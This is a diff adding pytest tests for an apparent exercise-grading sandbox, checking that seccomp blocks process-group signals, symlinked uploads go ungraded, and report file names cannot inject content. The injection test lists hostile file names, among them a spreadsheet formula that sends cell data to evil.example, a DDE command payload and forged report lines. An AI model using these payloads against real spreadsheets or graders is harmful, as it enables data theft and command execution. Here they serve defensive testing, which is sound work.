@@ -1,0 +1,105 @@
+"""More attacks on the sandbox and on what the grader writes (second review): the seccomp filter
+on its own, report injection through file names, and links in a submissions folder."""
+
+from __future__ import annotations
+
+import os
+import subprocess
+import sys
+import textwrap
+
+import pytest
+
+from attnlab.grading.confine import seccomp_supported
+from attnlab.grading.runner import ROOT
+
+
+@pytest.mark.skipif(not seccomp_supported(), reason="no libseccomp here")
+def test_seccomp_alone_keeps_signals_off_the_process_group():
+    """kill(0, sig) signals the caller's whole process group: for a child, the worker and every
+    other learner's child. Where neither a uid of its own (not root) nor Landlock's signal scoping
+    (ABI < 6) stands in the way, seccomp is all there is, so it must refuse pid 0 (and -1)."""
+    script = textwrap.dedent("""
+        import os, select, signal, sys, time
+        sys.path.insert(0, sys.argv[1])
+        from attnlab.grading import confine
+        watch, alive = os.pipe()  # reads EOF once the sibling, the one holding `alive`, is dead
+        sibling = os.fork()
+        if sibling == 0:  # another child of the same worker
+            os.close(watch)
+            for fd in (1, 2):  # not holding the test's output open
+                os.dup2(os.open(os.devnull, os.O_WRONLY), fd)
+            time.sleep(30)
+            os._exit(0)
+        os.close(alive)
+        signal.signal(signal.SIGTERM, signal.SIG_IGN)
+        assert confine.apply_seccomp()
+        seen = []
+        for target, sig in ((0, signal.SIGTERM), (-1, 0)):  # -1: only probed (signal 0)
+            try:
+                os.kill(target, sig)
+                seen.append("sent")
+            except PermissionError:
+                seen.append("refused")
+        os.kill(os.getpid(), 0)  # itself: still allowed
+        dead = select.select([watch], [], [], 1.0)[0]
+        seen.append("sibling killed" if dead else "sibling alive")
+        print(sibling, " ".join(seen))
+    """)
+    done = subprocess.run([sys.executable, "-c", script, str(ROOT)], capture_output=True,
+                          text=True, timeout=60, start_new_session=True)  # a group of its own
+    sibling, _, seen = done.stdout.strip().partition(" ")
+    try:
+        os.kill(int(sibling), 9)
+    except (OSError, ValueError):
+        pass
+    assert seen == "refused refused sibling alive", (done.stdout, done.stderr)
+
+
+def test_links_out_of_a_submissions_folder_are_not_followed(tmp_path):
+    """A student's upload unpacked as a link (zip and tar keep links) to a reference solution, or
+    to any file of the grader's machine, is not graded: every link in a folder is listed as
+    skipped (one inside the folder too: its file is graded once, at its own place; one that loops
+    back to the folder is not walked)."""
+    from pathlib import Path
+
+    from attnlab.grading.submissions import collect
+
+    folder = tmp_path / "submissions"
+    folder.mkdir()
+    (folder / "alice.py").write_text("x = 1\n")
+    solution = Path(ROOT) / "exercises" / "solutions" / "ex_stable_softmax.py"
+    (folder / "mallory.py").symlink_to(solution)
+    (folder / "mallory_dir").symlink_to(solution.parent)
+    (folder / "loop").symlink_to(folder)
+    (folder / "again.py").symlink_to(folder / "alice.py")
+    files, skipped = collect([str(folder)])
+    assert [f.name for f in files] == ["alice.py"]
+    assert {Path(s.path).name: s.reason for s in skipped} == {
+        "mallory.py": "skip.link", "mallory_dir": "skip.link", "loop": "skip.link",
+        "again.py": "skip.link"}
+
+
+def test_file_names_cannot_inject_into_reports():
+    """A file name is the student's text too: in the CSV no cell may start a formula, and in the
+    text report no line may be forged (newline, carriage return, escape sequences)."""
+    import csv
+    import io
+
+    import exercises
+    from attnlab.grading.model import Outcome
+    from attnlab.grading.report import SubmissionReport, to_csv, to_text
+    from attnlab.grading.submissions import Skipped
+
+    e = exercises.BY_ID["ex_omega"]
+    names = ['=HYPERLINK("http://evil.example/?"&A1,"open").py', "+1+cmd|' /C calc'!A0.py",
+             "@SUM(1).py", "-2+3.py", "\tx.py", "bob.py\nalice.py: 99 / 99\n.py",
+             "eve\r\x1b[2Kcarol.py: 99 / 99.py"]
+    reports = [SubmissionReport(n, [(e, Outcome("failed", 0, e.points, "feedback.raised",
+                                                {"error": "x"}))]) for n in names]
+    rows = list(csv.reader(io.StringIO(to_csv(reports))))[1:]
+    assert len(rows) == len(names)
+    assert all(row[0][:1] not in "=+-@\t\r" for row in rows), [r[0] for r in rows]
+    text = to_text(reports, skipped=[Skipped("dave.py\nalice.py: 99 / 99", "skip.suffix")])
+    assert not any(c in text for c in "\r\x1b"), text
+    assert not any(line.startswith(("alice.py", "carol.py")) for line in text.split("\n")), text
